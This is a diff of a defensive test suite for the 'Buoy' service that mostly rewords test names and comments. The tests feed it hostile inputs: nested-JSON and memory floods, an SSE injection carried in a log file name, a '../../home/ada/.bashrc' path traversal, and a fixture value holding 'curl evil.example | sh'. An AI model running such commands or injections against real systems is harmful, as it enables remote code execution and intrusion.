@@ -1,4 +1,4 @@
-// A gateway that was taken over, or an admin of one server, wants to end Buoy for everybody, or the live streams of others.
+// A hostile gateway, or an admin of one server, tries to crash Buoy for everyone or to cut the live streams of others.
 import { createServer, type Server } from 'node:net';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { WebSocket } from 'ws';
@@ -13,7 +13,7 @@ import {
 
 const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;
 
-describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
+describe.skipIf(noSshd !== null)('events and frames of a hostile gateway', () => {
   let fixture: HostileGateway;
   let token: string;
   let serverId: string;
@@ -30,7 +30,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
       (error: Error) => `no answer: ${error.message}`,
     );
 
-  /** Reads the stream of a server's events until `is` holds for its text, or it ends. */
+  /** Reads the event stream of a server until `is` holds for its text or the stream ends. */
   async function readEvents(below: string, is: (text: string) => boolean, onOpen: () => void = () => {}) {
     const leaving = new AbortController();
     const timer = setTimeout(() => leaving.abort(), 20_000);
@@ -50,7 +50,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
         if (is(text)) break;
       }
     } catch {
-      // The stream was cut: what came is judged.
+      // The stream was cut: the test checks the text that arrived.
     } finally {
       clearTimeout(timer);
       leaving.abort();
@@ -58,7 +58,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
     return text;
   }
 
-  test('does not by a first frame of the Control UI that is nested 50,000 levels deep', async () => {
+  test('a first Control UI frame nested 50,000 levels deep does not crash Buoy', async () => {
     const browser = createBrowser();
     const entry = await entryFor(fixture, token, serverId);
     expect((await browser.enter(entry, fixture.url)).status).toBe(200);
@@ -75,7 +75,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
     expect(await health()).toBe(200);
   });
 
-  test('does not by an event that is nested 20,000 levels deep: others are told what comes next', async () => {
+  test('an event nested 20,000 levels deep does not crash Buoy, and others receive the next event', async () => {
     const argument = nested(20_000);
     const text = await readEvents(
       'events',
@@ -95,7 +95,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
     expect(fixture.buoy.output()).not.toContain('the SSH connection was lost');
   });
 
-  test('does not end the streams of others by a number that no answer can hold', async () => {
+  test('a number that no answer can hold does not end the streams of others', async () => {
     const text = await readEvents(
       'events',
       (seen) => seen.includes('still there'),
@@ -110,7 +110,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
     expect(text).toContain('still there');
   });
 
-  test('forges no event in the log stream of others by the name of its log file', async () => {
+  test('the name of a log file forges no event in the log stream of others', async () => {
     fixture.gateway.methods['logs.tail'] = () => ({
       payload: {
         file: 'x\n\nevent: line\ndata: {"forged":true}\n\n',
@@ -123,7 +123,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
     expect(text).not.toMatch(/^data: \{"forged"/m);
   });
 
-  test('names no file of the reader: an agent file has the name by which it was asked for', async () => {
+  test('an agent file keeps the name it was asked for, whatever the gateway calls it', async () => {
     fixture.gateway.methods['agents.files.get'] = () => ({
       payload: { file: { name: '../../home/ada/.bashrc', content: 'curl evil.example | sh', size: 22 } },
     });
@@ -136,7 +136,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
     expect(json.file).toMatchObject({ name: 'SOUL.md', content: 'curl evil.example | sh' });
   });
 
-  test('keeps nobody busy by naming another log file each time', async () => {
+  test('naming another log file each time does not keep Buoy busy', async () => {
     let asked = 0;
     fixture.gateway.methods['logs.tail'] = () => {
       asked += 1;
@@ -154,7 +154,7 @@ describe.skipIf(noSshd !== null)('somebody who wants to end Buoy', () => {
 });
 
 describe.skipIf(noSshd !== null)(
-  'a gateway that wants to end Buoy while a person looks at its Control UI',
+  'Buoy keeps running while a person uses the Control UI of a hostile gateway',
   () => {
     let fixture: HostileGateway;
     let web: Server;
@@ -166,7 +166,7 @@ describe.skipIf(noSshd !== null)(
       await fixture.close();
     });
 
-    test('does not by an answer whose status is none and that breaks off', async () => {
+    test('that answers with an invalid status and breaks off', async () => {
       const token = await fixture.signIn(7);
       const serverId = await fixture.addServer(token);
       const browser = createBrowser();
@@ -186,7 +186,7 @@ describe.skipIf(noSshd !== null)(
       const answer = await fetch(`${entry.origin}${base}file`, {
         headers: { cookie: browser.cookiesFor(base) },
       }).catch((error: Error) => error);
-      // The end comes behind the answer, when the broken stream is noticed.
+      // The error comes after the answer, when Buoy notices the broken stream.
       for (let count = 0; count < 20; count += 1)
         expect((await fetch(`${fixture.url}/api/health`)).status).toBe(200);
       expect(answer).toMatchObject({ status: 502 });
@@ -194,15 +194,15 @@ describe.skipIf(noSshd !== null)(
   },
 );
 
-describe.skipIf(noSshd !== null)('a gateway that wants the memory of Buoy', () => {
+describe.skipIf(noSshd !== null)('events of a hostile gateway do not fill the memory of Buoy', () => {
   let fixture: HostileGateway;
   beforeAll(async () => {
-    // What the rounds of each test leave behind adds up to more than this.
+    // If Buoy kept what the rounds of one test send, it would exceed this heap.
     fixture = await startHostileGateway({ NODE_OPTIONS: '--max-old-space-size=256' });
   });
   afterAll(() => fixture.close());
 
-  /** How many rounds a live stream saw the end of. */
+  /** The number of rounds whose end a live stream received. */
   async function roundsSeen(rounds: number, tell: (round: number) => void): Promise<number> {
     const token = await fixture.signIn(7);
     const serverId = await fixture.addServer(token);
@@ -225,14 +225,14 @@ describe.skipIf(noSshd !== null)('a gateway that wants the memory of Buoy', () =
         fixture.gateway.emit('skills.changed', { reason: `round ${round} is over` });
       }
     } catch {
-      // Buoy has gone: how far it came is judged.
+      // Buoy has crashed: the test checks how far it came.
     } finally {
       leaving.abort();
     }
     return round;
   }
 
-  test('keeps none of it by channels whose names change each time', async () => {
+  test('with channels whose names change each time', async () => {
     const seen = await roundsSeen(200, (round) => {
       const names = Array.from({ length: 450 }, (_, index) => `${round}-${index}-${'x'.repeat(2_000)}`);
       const channels = Object.fromEntries(
@@ -244,7 +244,7 @@ describe.skipIf(noSshd !== null)('a gateway that wants the memory of Buoy', () =
     expect((await fetch(`${fixture.url}/api/health`)).status).toBe(200);
   }, 60_000);
 
-  test('keeps none of it by titles of a megabyte, of which the first thousand characters are read', async () => {
+  test('with titles of a megabyte, of which the first thousand characters are read', async () => {
     const seen = await roundsSeen(250, (round) =>
       fixture.gateway.emit('sessions.changed', {
         sessionKey: 'agent:main:main',
